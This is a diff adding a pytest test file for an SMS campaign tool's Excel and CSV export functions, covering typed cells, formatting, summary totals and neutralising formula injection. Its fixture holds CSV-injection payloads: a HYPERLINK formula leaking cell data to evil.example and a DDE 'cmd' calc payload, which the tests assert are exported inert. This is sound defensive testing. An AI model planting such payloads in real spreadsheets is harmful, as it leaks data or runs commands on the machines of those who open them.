@@ -1,0 +1,122 @@
+"""Excel and CSV exports: typed cells, formatting, a summary sheet, and inert formulas."""
+
+from __future__ import annotations
+
+import csv
+from decimal import Decimal
+
+import openpyxl
+import pandas as pd
+import pytest
+
+from smsc_frames.export import neutralise, summary, to_csv, to_excel
+
+INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+
+
+@pytest.fixture
+def results() -> pd.DataFrame:
+    """Results shaped like campaign.send's, with a hostile name column and Cyrillic text."""
+    return pd.DataFrame(
+        {
+            "phone": ["79161234567", "77011234567", "375291234567"],
+            "name": [INJECTION, "Анна", "+cmd|' /C calc'!A0"],
+            "sms_id": ["c0ffee-1", "c0ffee-1", "c0ffee-2"],
+            "mccmnc": ["25001", "40101", None],
+            "parts": [2, 2, 1],
+            "cost": [Decimal("3.80"), Decimal("7.10"), None],
+            "status": pd.array([1, 1, None], dtype="Int64"),
+            "status_name": ["delivered", "delivered", None],
+            "sent_at": pd.to_datetime(
+                ["2024-03-15 09:00:01", "2024-03-15 09:00:01", None]
+            ).tz_localize("Europe/Moscow"),
+            "outcome": ["sent", "sent", "not sent"],
+        },
+        index=pd.Index([10, 11, 14], name="contact"),
+    )
+
+
+def test_neutralise_prefixes_every_formula_trigger_and_nothing_else():
+    for trigger in ["=", "+", "-", "@", "\t", "\r"]:
+        assert neutralise(trigger + "1+1") == "'" + trigger + "1+1"
+    for safe in ["79161234567", "Анна", "a=b", "", "'quoted"]:
+        assert neutralise(safe) == safe
+
+
+def test_excel_cells_are_typed_and_formatted(tmp_path, results):
+    path = to_excel(results, tmp_path / "results.xlsx")
+    book = openpyxl.load_workbook(path)
+    assert book.sheetnames == ["results", "summary"]
+    sheet = book["results"]
+    header = [cell.value for cell in sheet[1]]
+    assert header == ["contact", *results.columns]
+    column = {name: number for number, name in enumerate(header, start=1)}
+
+    phone = sheet.cell(row=2, column=column["phone"])
+    assert (phone.value, phone.data_type, phone.number_format) == ("79161234567", "s", "@")
+    cost = sheet.cell(row=3, column=column["cost"])
+    assert (cost.value, cost.data_type, cost.number_format) == (7.1, "n", "0.00")
+    assert sheet.cell(row=4, column=column["cost"]).value is None
+    assert sheet.cell(row=2, column=column["contact"]).value == 10
+    assert sheet.cell(row=2, column=column["parts"]).value == 2
+    assert sheet.cell(row=4, column=column["status"]).value is None
+    sent = sheet.cell(row=2, column=column["sent_at"])
+    assert sent.is_date and sent.value == pd.Timestamp("2024-03-15 09:00:01").to_pydatetime()
+    assert sheet.cell(row=3, column=column["name"]).value == "Анна"
+
+    assert sheet.freeze_panes == "A2"
+    assert sheet.auto_filter.ref == f"A1:{openpyxl.utils.get_column_letter(len(header))}4"
+    assert all(cell.font.b for cell in sheet[1])
+    name_width = sheet.column_dimensions[openpyxl.utils.get_column_letter(column["name"])].width
+    assert name_width > sheet.column_dimensions["A"].width
+
+
+def test_excel_formulas_come_out_inert(tmp_path, results):
+    path = to_excel(results, tmp_path / "results.xlsx")
+    sheet = openpyxl.load_workbook(path)["results"]
+    names = [row[0] for row in sheet.iter_rows(min_row=2, min_col=3, max_col=3, values_only=True)]
+    assert names == ["'" + INJECTION, "Анна", "'+cmd|' /C calc'!A0"]
+    assert all(cell.data_type == "s" for row in sheet.iter_rows() for cell in row
+               if isinstance(cell.value, str))
+
+
+def test_excel_summary_sheet_totals(tmp_path, results):
+    path = to_excel(results, tmp_path / "results.xlsx")
+    rows = dict(openpyxl.load_workbook(path)["summary"].iter_rows(min_row=2, values_only=True))
+    assert rows["rows"] == 3
+    assert rows["recipients"] == 3
+    assert rows["SMS"] == 5
+    assert rows["cost"] == pytest.approx(10.90)
+    assert rows["outcome: sent"] == 2
+    assert rows["outcome: not sent"] == 1
+    assert rows["status_name: delivered"] == 2
+
+
+def test_summary_totals_are_exact_decimals(results):
+    table = summary(results).set_index("metric")["value"]
+    assert table["cost"] == Decimal("10.90")
+    assert isinstance(table["cost"], Decimal)
+
+
+def test_csv_has_bom_typed_values_and_inert_formulas(tmp_path, results):
+    path = to_csv(results, tmp_path / "results.csv")
+    raw = path.read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf")
+    rows = list(csv.DictReader(raw.decode("utf-8-sig").splitlines()))
+    assert [row["name"] for row in rows] == ["'" + INJECTION, "Анна", "'+cmd|' /C calc'!A0"]
+    assert [row["phone"] for row in rows] == list(results["phone"])
+    assert [row["cost"] for row in rows] == ["3.80", "7.10", ""]
+    assert [row["contact"] for row in rows] == ["10", "11", "14"]
+
+
+def test_csv_semicolon_for_russian_excel(tmp_path, results):
+    path = to_csv(results, tmp_path / "results.csv", sep=";", index=False)
+    header = path.read_text(encoding="utf-8-sig").splitlines()[0]
+    assert header.split(";") == list(results.columns)
+
+
+def test_exports_leave_the_results_untouched(tmp_path, results):
+    before = results.copy()
+    to_excel(results, tmp_path / "r.xlsx")
+    to_csv(results, tmp_path / "r.csv")
+    pd.testing.assert_frame_equal(results, before)
